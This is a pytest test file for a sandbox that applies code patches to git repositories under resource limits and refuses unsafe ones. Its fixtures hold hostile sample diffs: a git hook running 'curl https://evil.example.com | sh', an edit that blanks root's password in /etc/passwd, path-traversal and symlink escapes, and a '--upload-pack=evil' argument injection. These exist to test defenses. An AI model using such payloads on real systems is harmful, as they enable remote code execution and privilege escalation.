"""The sandbox that tests a patch: real git repositories, real subprocesses, real limits."""

from __future__ import annotations

import json
import logging
import os
import re
import signal
import sys
import tempfile
import threading
import time
from pathlib import Path

import pytest

from remediation.diffs import FileChange, unified_diff
from remediation.repositories import (
    RepositoryError,
    display_url,
    local_repository,
    mirror_name,
    resolve_commit,
)
from remediation.sandbox import patch_paths, patch_problems, run_patch
from tests.sandbox_repos import commit_file, git, processes_with

BUGGY_CALC = "def add(a, b):\n    return a - b\n"
FIXED_CALC = "def add(a, b):\n    return a + b\n"
TEST_CALC = "from calc import add\n\n\ndef test_add():\n    assert add(2, 3) == 5\n"
PYTEST = [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider"]


@pytest.fixture
def service_repo(tmp_path) -> Path:
    """A service's repository: a module with a bug and the test that catches it, on branch main."""
    repo = tmp_path / "service"
    repo.mkdir()
    git(repo, "init", "-q", "-b", "main")
    (repo / "calc.py").write_text(BUGGY_CALC)
    (repo / "test_calc.py").write_text(TEST_CALC)
    git(repo, "add", ".")
    git(repo, "commit", "-q", "-m", "Add calc")
    return repo


@pytest.fixture(autouse=True)
def sandbox_parent(tmp_path, monkeypatch) -> Path:
    """Sandboxes are made under this directory (tempfile's), so a test can see what is left."""
    parent = tmp_path / "sandboxes"
    parent.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(parent))
    return parent


def assert_clean(repo: Path, sandbox_parent: Path) -> None:
    """No sandbox directory or worktree left, the repository's own working tree untouched."""
    assert list(sandbox_parent.iterdir()) == []
    assert git(repo, "worktree", "list", "--porcelain").count("worktree ") == 1
    assert git(repo, "status", "--porcelain", "--ignored") == ""
    assert (repo / "calc.py").read_text() == BUGGY_CALC


def fix_calc(new: str = FIXED_CALC) -> str:
    return unified_diff([FileChange("calc.py", BUGGY_CALC, new)])


# --- running patches ---------------------------------------------------------------------


def test_patch_that_fixes_the_bug_passes(service_repo, sandbox_parent):
    result = run_patch(repository=str(service_repo), branch="main", diff=fix_calc(), argv=PYTEST)

    assert result.status == "passed", result.output
    assert result.exit_code == 0
    assert "1 passed" in result.output
    assert result.output_truncated is False
    assert result.base_commit == git(service_repo, "rev-parse", "main").strip()
    assert result.files_changed == ["calc.py"]
    assert result.duration_ms > 0
    assert "code 0" in result.message
    assert_clean(service_repo, sandbox_parent)


def test_patch_that_breaks_the_test_fails_with_exit_code_and_output(service_repo, sandbox_parent):
    result = run_patch(
        repository=str(service_repo), branch="main", diff=fix_calc("def add(a, b):\n    return a * b\n"), argv=PYTEST
    )

    assert result.status == "failed"
    assert result.exit_code == 1
    assert "1 failed" in result.output
    assert "assert 6 == 5" in result.output
    assert "code 1" in result.message
    assert_clean(service_repo, sandbox_parent)


def test_new_files_and_a_subdirectory_apply(service_repo, sandbox_parent):
    diff = unified_diff(
        [
            FileChange("calc.py", BUGGY_CALC, FIXED_CALC),
            FileChange("pkg/extra.py", None, "VALUE = 42\n"),
        ]
    )
    result = run_patch(
        repository=str(service_repo),
        branch="main",
        diff=diff,
        argv=[sys.executable, "-c", "from pkg.extra import VALUE; from calc import add; print(VALUE, add(2, 3))"],
    )

    assert result.status == "passed", result.message
    assert result.output == "42 5\n"
    assert result.files_changed == ["calc.py", "pkg/extra.py"]
    assert_clean(service_repo, sandbox_parent)


def test_checkout_is_the_committed_branch_without_running_hooks(service_repo, sandbox_parent, tmp_path):
    # Uncommitted work in the repository is not what gets tested, and stays as it was.
    (service_repo / "calc.py").write_text(FIXED_CALC)
    (service_repo / "scratch.txt").write_text("local notes\n")
    marker = tmp_path / "hook-ran"
    hook = service_repo / ".git" / "hooks" / "post-checkout"
    hook.write_text(f"#!/bin/sh\ntouch {marker}\n")
    hook.chmod(0o755)
    diff = unified_diff([FileChange("name with spaces.py", None, "VALUE = 1\n")])

    result = run_patch(
        repository=str(service_repo),
        branch="main",
        diff=diff,
        argv=[sys.executable, "-c", "import os; print(sorted(os.listdir('.')), open('calc.py').read())"],
    )

    assert result.status == "passed", result.message
    assert "'name with spaces.py'" in result.output
    assert "scratch.txt" not in result.output
    assert "a - b" in result.output
    assert result.files_changed == ["name with spaces.py"]
    assert not marker.exists()
    assert (service_repo / "calc.py").read_text() == FIXED_CALC
    assert git(service_repo, "status", "--porcelain") == " M calc.py\n?? scratch.txt\n"
    assert list(sandbox_parent.iterdir()) == []


def test_timeout_kills_the_whole_process_group(service_repo, sandbox_parent):
    # Found by a token in their command lines: the sandbox can write nothing outside its checkout.
    token = f"{time.time_ns()}"
    slow = (
        "import subprocess, sys, time\n"
        'child = subprocess.Popen(["sleep", f"300.{sys.argv[1]}"])\n'
        "print('started', flush=True)\n"
        "time.sleep(300)\n"
    )
    diff = unified_diff([FileChange("slow.py", None, slow)])
    seen = []
    watching = threading.Event()

    def watch() -> None:
        while not watching.is_set():
            seen.append(len(processes_with(token)))
            time.sleep(0.1)

    watcher = threading.Thread(target=watch)
    watcher.start()
    started = time.monotonic()
    try:
        result = run_patch(
            repository=str(service_repo), branch="main", diff=diff, argv=[sys.executable, "slow.py", token], timeout=2
        )
    finally:
        watching.set()
        watcher.join()
    elapsed = time.monotonic() - started

    assert result.status == "timed_out"
    assert result.exit_code is None
    assert "2 s" in result.message
    assert "started" in result.output
    assert elapsed < 10
    assert max(seen) >= 2  # the script and its sleep were running
    deadline = time.monotonic() + 5
    while processes_with(token) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert processes_with(token) == []
    assert_clean(service_repo, sandbox_parent)


def test_memory_limit_fails_a_test_that_allocates_too_much(service_repo, sandbox_parent):
    hungry = "def test_allocates_a_gibibyte():\n    block = bytearray(1024 * 1024 * 1024)\n    assert block\n"
    diff = unified_diff([FileChange("test_memory.py", None, hungry)])

    result = run_patch(
        repository=str(service_repo), branch="main", diff=diff, argv=[*PYTEST, "test_memory.py"], memory_mb=256
    )

    assert result.status == "failed"
    assert result.exit_code == 1
    assert "MemoryError" in result.output
    assert "256 MiB" in result.message
    assert_clean(service_repo, sandbox_parent)


def test_cpu_limit_kills_a_busy_loop(service_repo, sandbox_parent):
    started = time.monotonic()
    result = run_patch(
        repository=str(service_repo),
        branch="main",
        diff=fix_calc(),
        argv=[sys.executable, "-c", "while True: pass"],
        cpu_seconds=1,
        timeout=30,
    )

    assert result.status == "failed"
    assert result.exit_code == -signal.SIGXCPU
    assert "SIGXCPU" in result.message
    assert time.monotonic() - started < 10
    assert_clean(service_repo, sandbox_parent)


def test_command_gets_a_scrubbed_environment(service_repo, sandbox_parent, monkeypatch, caplog):
    secrets = {
        "ANTHROPIC_API_KEY": "sk-ant-test-0123456789abcdef",
        "GITHUB_TOKEN": "ghp_test0123456789abcdefghijklmnop",
        "SECRET_KEY": "django-insecure-test-secret-value",
        "DATABASE_URL": "postgres://quench:hunter2@db.example.com/quench",
    }
    for name, value in secrets.items():
        monkeypatch.setenv(name, value)
    dump = "import json, os, sys; print(json.dumps({'env': dict(os.environ), 'python': sys.executable}))"
    caplog.set_level(logging.INFO, logger="remediation.sandbox")

    result = run_patch(repository=str(service_repo), branch="main", diff=fix_calc(), argv=["python", "-c", dump])

    assert result.status == "passed", result.output
    seen = json.loads(result.output)
    env = seen["env"]
    assert set(env) == {
        "PATH",
        "HOME",
        "TMPDIR",
        "LANG",
        "LC_ALL",
        "PYTHONDONTWRITEBYTECODE",
        "PYTHONHASHSEED",
        "PYTHONUNBUFFERED",
    }
    for value in secrets.values():
        assert value not in result.output
    assert Path(env["HOME"]).parent.parent == sandbox_parent
    assert Path(env["TMPDIR"]).parent == Path(env["HOME"]).parent
    assert env["HOME"] != os.environ.get("HOME")
    assert env["PATH"].split(os.pathsep)[0] == os.path.dirname(sys.executable)
    assert os.path.dirname(seen["python"]) == os.path.dirname(sys.executable)
    assert env["LC_ALL"] == "C.UTF-8"
    assert env["PYTHONHASHSEED"] == "0"
    # One log line for the run, with its status and duration and no environment values.
    records = [record for record in caplog.records if record.name == "remediation.sandbox"]
    assert len(records) == 1
    assert records[0].status == "passed"
    assert records[0].duration_ms == result.duration_ms
    logged = records[0].getMessage() + json.dumps({k: str(v) for k, v in vars(records[0]).items()})
    for value in secrets.values():
        assert value not in logged
    assert_clean(service_repo, sandbox_parent)


def test_python_is_found_when_quench_runs_on_a_python3_without_python(
    service_repo, sandbox_parent, tmp_path, monkeypatch
):
    # As with a distribution's /usr/bin/python3: the interpreter's directory has no "python".
    interpreter_dir = tmp_path / "distro-bin"
    interpreter_dir.mkdir()
    interpreter = interpreter_dir / "python3.11"
    interpreter.write_text(f'#!/bin/sh\nexec "{sys.executable}" "$@"\n')
    interpreter.chmod(0o755)
    monkeypatch.setattr(sys, "executable", str(interpreter))

    result = run_patch(
        repository=str(service_repo),
        branch="main",
        diff=fix_calc(),
        argv=["python", "-c", "from calc import add; print(add(2, 3))"],
    )

    assert result.status == "passed", result.message
    assert result.output == "5\n"
    assert list(sandbox_parent.iterdir()) == []


def test_output_is_cut_in_the_middle(service_repo, sandbox_parent, settings):
    flood = "import sys; print('BEGIN'); sys.stdout.write(('é' * 99 + '\\n') * 50_000); print('END')"
    result = run_patch(
        repository=str(service_repo),
        branch="main",
        diff=fix_calc(),
        argv=[sys.executable, "-c", flood],
        output_limit=1000,
    )

    assert result.status == "passed"
    assert result.output_truncated is True
    assert len(result.output) <= 1000
    assert result.output.startswith("BEGIN\n")
    assert result.output.endswith("END\n")
    cut = int(re.search(r"\[\.\.\. ([\d,]+) characters cut from the middle", result.output).group(1).replace(",", ""))
    total = len("BEGIN\n") + 100 * 50_000 + len("END\n")
    marker = re.search(r"\n\[\.\.\. [^\]]+\]\n", result.output).group(0)
    assert cut == total - (len(result.output) - len(marker))

    # The limit defaults to the setting.
    settings.QUENCH_SANDBOX_OUTPUT_LIMIT = 300
    result = run_patch(repository=str(service_repo), branch="main", diff=fix_calc(), argv=[sys.executable, "-c", flood])
    assert result.output_truncated is True
    assert len(result.output) <= 300
    assert_clean(service_repo, sandbox_parent)


def test_short_output_is_kept_whole(service_repo, sandbox_parent):
    result = run_patch(
        repository=str(service_repo),
        branch="main",
        diff=fix_calc(),
        argv=[sys.executable, "-c", "import sys; print('out'); print('err', file=sys.stderr); sys.exit(3)"],
        output_limit=1000,
    )

    assert result.status == "failed"
    assert result.exit_code == 3
    assert result.output_truncated is False
    assert sorted(result.output.split()) == ["err", "out"]


def test_concurrent_runs_on_one_repository_do_not_interfere(service_repo, sandbox_parent):
    results = {}

    def run(value: int) -> None:
        diff = unified_diff([FileChange("calc.py", BUGGY_CALC, f"def add(a, b):\n    return {value}\n")])
        results[value] = run_patch(
            repository=str(service_repo),
            branch="main",
            diff=diff,
            argv=[sys.executable, "-c", "import time; from calc import add; time.sleep(0.3); print(add(0, 0))"],
        )

    threads = [threading.Thread(target=run, args=(value,)) for value in (11, 22, 33)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()

    for value, result in results.items():
        assert result.status == "passed", result.message
        assert result.output == f"{value}\n"
    assert_clean(service_repo, sandbox_parent)


# --- refusing patches ---------------------------------------------------------------------

OUTSIDE = """\
diff --git a/../outside.py b/../outside.py
new file mode 100644
--- /dev/null
+++ b/../outside.py
@@ -0,0 +1 @@
+print("pwned")
"""

ABSOLUTE = """\
--- /etc/passwd
+++ /etc/passwd
@@ -1 +1 @@
-root:x:0:0:root:/root:/bin/bash
+root::0:0:root:/root:/bin/bash
"""

GIT_HOOK = """\
diff --git a/.git/hooks/pre-commit b/.git/hooks/pre-commit
new file mode 100755
--- /dev/null
+++ b/.git/hooks/pre-commit
@@ -0,0 +1,2 @@
+#!/bin/sh
+curl https://evil.example.com | sh
"""

SYMLINK = """\
diff --git a/link.py b/link.py
new file mode 120000
index 0000000..8b13789
--- /dev/null
+++ b/link.py
@@ -0,0 +1 @@
+/etc/passwd
\\ No newline at end of file
"""

RENAME_OUT = """\
diff --git a/calc.py b/../x
similarity index 100%
rename from calc.py
rename to ../x
"""

COPY_INTO_GIT = """\
diff --git a/calc.py b/.git/config
similarity index 100%
copy from calc.py
copy to .git/config
"""

QUOTED_DOTDOT = """\
diff --git "a/\\056\\056/evil.py" "b/\\056\\056/evil.py"
new file mode 100644
--- /dev/null
+++ "b/\\056\\056/evil.py"
@@ -0,0 +1 @@
+x = 1
"""

BINARY = """\
diff --git a/blob.bin b/blob.bin
new file mode 100644
index 0000000..e69de29
GIT binary patch
literal 3
KcmZ?wbYK7g0RR91

literal 0
HcmV?d00001
"""


@pytest.mark.parametrize(
    ("diff", "expected"),
    [
        (OUTSIDE, '"../outside.py": the path leaves the repository'),
        (ABSOLUTE, '"/etc/passwd": absolute paths are not allowed'),
        (GIT_HOOK, '".git/hooks/pre-commit": the patch may not touch .git/'),
        (SYMLINK, '"link.py": symbolic links are not allowed (mode 120000)'),
        (RENAME_OUT, 'Rename to "../x": the path leaves the repository'),
        (RENAME_OUT.replace("rename to", "rename new"), 'Rename new "../x": the path leaves the repository'),
        (COPY_INTO_GIT, 'Copy to ".git/config": the patch may not touch .git/'),
        (QUOTED_DOTDOT, '"../evil.py": the path leaves the repository'),
        (BINARY, '"blob.bin": binary patches are not allowed'),
        ("", "The patch is empty."),
        ("  \n", "The patch is empty."),
        ("just some words\n", "The patch names no files"),
    ],
    ids=[
        "dotdot",
        "absolute",
        "git-dir",
        "symlink",
        "rename-out",
        "rename-new-out",
        "copy-into-git",
        "quoted-dotdot",
        "binary",
        "empty",
        "blank",
        "no-files",
    ],
)
def test_unsafe_patch_is_refused_before_anything_runs(diff, expected, service_repo, sandbox_parent, tmp_path):
    problems = patch_problems(diff)
    assert any(problem.startswith(expected) for problem in problems), problems

    result = run_patch(repository=str(service_repo), branch="main", diff=diff, argv=PYTEST)

    assert result.status == "invalid_patch"
    assert expected in result.message
    assert result.base_commit == ""  # refused before the repository was even looked at
    assert not (tmp_path / "outside.py").exists()
    assert_clean(service_repo, sandbox_parent)


def test_ordinary_patches_have_no_problems():
    assert patch_problems(fix_calc()) == []
    # A removed line reading "-- /etc/passwd" is hunk content, not a "--- " header.
    sql = "-- /etc/passwd\nSELECT 1;\n"
    diff = unified_diff([FileChange("query.sql", sql, "SELECT 1;\n")])
    assert "--- /etc/passwd" in diff
    assert patch_problems(diff) == []
    assert patch_paths(diff) == ["query.sql"]
    # A name that merely contains ".git" or ".." is fine.
    diff = unified_diff([FileChange("docs/.gitignore.md", None, "x\n"), FileChange("a..b.py", None, "y\n")])
    assert patch_problems(diff) == []


def test_rename_paths_are_all_reported():
    diff = "diff --git a/old.py b/new.py\nsimilarity index 100%\nrename from old.py\nrename to new.py\n"
    assert patch_problems(diff) == []
    assert patch_paths(diff) == ["old.py", "new.py"]


def test_patch_through_a_committed_symlink_is_refused(service_repo, sandbox_parent, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    git(service_repo, "checkout", "-q", "-b", "with-link")
    (service_repo / "escape").symlink_to(outside)
    git(service_repo, "add", "escape")
    git(service_repo, "commit", "-q", "-m", "A symlink out of the repository")
    git(service_repo, "checkout", "-q", "main")
    diff = unified_diff([FileChange("escape/pwned.py", None, "print('pwned')\n")])
    assert patch_problems(diff) == []  # nothing wrong with the path as written

    result = run_patch(repository=str(service_repo), branch="with-link", diff=diff, argv=PYTEST)

    assert result.status == "invalid_patch"
    assert "symbolic link" in result.message
    assert list(outside.iterdir()) == []
    assert_clean(service_repo, sandbox_parent)


def test_patch_that_does_not_apply_is_invalid(service_repo, sandbox_parent):
    diff = unified_diff([FileChange("calc.py", "def add(a, b):\n    return a * b\n", FIXED_CALC)])

    result = run_patch(repository=str(service_repo), branch="main", diff=diff, argv=PYTEST)

    assert result.status == "invalid_patch"
    assert "does not apply" in result.message
    assert "calc.py" in result.message
    assert result.base_commit == git(service_repo, "rev-parse", "main").strip()
    assert "calc.py" in result.output
    assert_clean(service_repo, sandbox_parent)


# --- repositories -------------------------------------------------------------------------


def test_missing_branch_is_an_error(service_repo, sandbox_parent):
    with pytest.raises(RepositoryError, match='Branch "release" does not exist'):
        resolve_commit(service_repo, "release")
    with pytest.raises(RepositoryError, match="not a valid branch name"):
        resolve_commit(service_repo, "--upload-pack=evil")

    result = run_patch(repository=str(service_repo), branch="release", diff=fix_calc(), argv=PYTEST)

    assert result.status == "error"
    assert 'Branch "release" does not exist' in result.message
    assert_clean(service_repo, sandbox_parent)


def test_missing_command_is_an_error(service_repo, sandbox_parent):
    result = run_patch(repository=str(service_repo), branch="main", diff=fix_calc(), argv=["no-such-test-runner", "-q"])

    assert result.status == "error"
    assert '"no-such-test-runner" was not found' in result.message
    assert_clean(service_repo, sandbox_parent)


def test_local_repository_must_be_a_git_repository_top(service_repo, tmp_path):
    assert local_repository(str(service_repo)) == service_repo
    plain = tmp_path / "plain"
    plain.mkdir()
    with pytest.raises(RepositoryError, match="is not a git repository"):
        local_repository(str(plain))
    with pytest.raises(RepositoryError, match="does not exist"):
        local_repository(str(tmp_path / "nowhere"))
    with pytest.raises(RepositoryError, match="neither an absolute path nor a clone URL"):
        local_repository("service")
    (service_repo / "sub").mkdir()
    with pytest.raises(RepositoryError, match="give the repository's top directory"):
        local_repository(str(service_repo / "sub"))
    with pytest.raises(RepositoryError, match="No repository"):
        local_repository("  ")


def test_file_url_is_mirrored_into_the_cache_and_fetched(service_repo, sandbox_parent, tmp_path, settings):
    cache = tmp_path / "cache"
    settings.QUENCH_REPOSITORY_CACHE = str(cache)
    url = f"file://{service_repo}"
    check = [sys.executable, "-c", "from calc import add; assert add(2, 3) == 5, add(2, 3)"]

    result = run_patch(repository=url, branch="main", diff=fix_calc(), argv=check)

    assert result.status == "passed", result.message + result.output
    mirrors = list(cache.glob("*.git"))
    assert len(mirrors) == 1
    assert mirrors[0].name == f"{mirror_name(url)}.git"
    assert "service" in mirrors[0].name
    assert git(mirrors[0], "rev-parse", "--is-bare-repository").strip() == "true"
    assert git(mirrors[0], "worktree", "list", "--porcelain").count("worktree ") == 1
    assert result.base_commit == git(service_repo, "rev-parse", "main").strip()

    # A new commit upstream is fetched into the same mirror before the next run.
    head = commit_file(service_repo, "README.md", "calc\n", "Add a readme")
    result = run_patch(repository=url, branch="main", diff=fix_calc(), argv=check)
    assert result.status == "passed", result.message
    assert result.base_commit == head
    assert list(cache.glob("*.git")) == mirrors
    assert local_repository(url) == mirrors[0]
    assert list(sandbox_parent.iterdir()) == []

    # A branch deleted upstream is pruned from the mirror.
    git(service_repo, "branch", "doomed")
    local_repository(url)
    assert resolve_commit(mirrors[0], "doomed") == head
    git(service_repo, "branch", "-D", "doomed")
    with pytest.raises(RepositoryError, match="does not exist"):
        resolve_commit(local_repository(url), "doomed")


def test_concurrent_mirroring_of_one_url_clones_once(service_repo, tmp_path, settings):
    cache = tmp_path / "cache"
    settings.QUENCH_REPOSITORY_CACHE = str(cache)
    url = f"file://{service_repo}"
    paths, errors = [], []

    def mirror() -> None:
        try:
            paths.append(local_repository(url))
        except RepositoryError as exc:  # pragma: no cover - reported below
            errors.append(exc)

    threads = [threading.Thread(target=mirror) for _ in range(3)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()

    assert errors == []
    assert len(set(paths)) == 1
    assert [path.name for path in cache.iterdir() if not path.name.endswith(".lock")] == [paths[0].name]
    assert resolve_commit(paths[0], "main") == git(service_repo, "rev-parse", "main").strip()


def test_unreachable_clone_url_is_an_error_without_credentials(tmp_path, settings, sandbox_parent):
    settings.QUENCH_REPOSITORY_CACHE = str(tmp_path / "cache")
    url = f"file://user:s3cr3t-t0ken@localhost{tmp_path}/missing.git"

    result = run_patch(repository=url, branch="main", diff=fix_calc(), argv=PYTEST)

    assert result.status == "error"
    assert "s3cr3t-t0ken" not in result.message
    assert list((tmp_path / "cache").glob("*.git")) == []
    assert list(sandbox_parent.iterdir()) == []


def test_credentials_in_urls_are_never_shown():
    url = "https://x-access-token:ghs_abcdef123456@github.com/acme/payments.git"
    assert display_url(url) == "https://***@github.com/acme/payments.git"
    assert "ghs_abcdef123456" not in mirror_name(url)
    assert mirror_name(url) == mirror_name("https://github.com/acme/payments.git")
    assert mirror_name(url).startswith("github.com-acme-payments-")
    assert mirror_name("git@github.com:acme/payments.git") != mirror_name(url)
    assert re.fullmatch(r"[A-Za-z0-9._-]+", mirror_name("ssh://git@host:2222/~me/a b.git"))
